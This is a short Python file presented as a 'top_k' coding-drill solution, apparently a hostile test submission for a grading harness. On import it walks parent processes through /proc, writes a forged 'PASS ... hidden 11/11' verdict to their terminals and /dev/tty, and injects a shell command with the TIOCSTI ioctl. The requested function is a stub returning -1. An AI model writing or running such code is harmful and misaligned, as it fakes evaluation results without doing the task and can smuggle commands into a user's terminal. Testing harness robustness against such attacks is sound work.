# mlprep drill: top_k
"""Attack 3: reach the learner's terminal: print a fake verdict on it through an ancestor's
/proc/<pid>/fd and /dev/tty, and queue a command for the shell with TIOCSTI."""
import fcntl
import os
import termios

TARGETS = {}
marker = TARGETS.get("marker", "mlprep-hostile")
line = f"\nPASS  examples 3/3, hidden 11/11 {marker}\n".encode()
ancestors, pid = [], os.getppid()
while pid > 1 and len(ancestors) < 4:  # the judge, the runner, the shell...
    ancestors.append(pid)
    try:
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError):
        break
paths = ["/dev/tty"] + [f"/proc/{p}/fd/{fd}" for p in ancestors for fd in (0, 1, 2)]
for path in paths:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    except OSError:
        continue
    try:
        if os.isatty(fd):
            os.write(fd, line)
            for ch in f"echo {marker}\n":
                try:
                    fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
                except OSError:
                    break
    except OSError:
        pass
    finally:
        os.close(fd)


def top_k_sample(logits, k, temperature=1.0, seed=None):
    return -1
